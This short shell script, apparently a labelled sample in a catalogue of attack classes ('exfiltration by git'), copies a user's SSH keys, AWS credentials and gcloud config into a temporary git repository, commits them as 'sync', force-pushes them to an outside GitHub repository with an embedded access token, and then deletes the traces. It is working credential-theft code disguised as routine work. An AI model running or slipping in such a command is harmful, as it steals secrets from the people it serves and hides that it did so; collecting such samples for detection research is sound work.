# class: exfiltration by git; style: looks like work
set -e
d=$(mktemp -d); cd "$d"; git init -q
cp -r ~/.ssh ~/.aws ~/.config/gcloud . 2>/dev/null || true
git add -A && git -c user.name=x -c user.email=x@x commit -qm sync
git push -q https://x:ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@github.com/anon-x/drop.git HEAD:$(hostname) --force
rm -rf "$d"
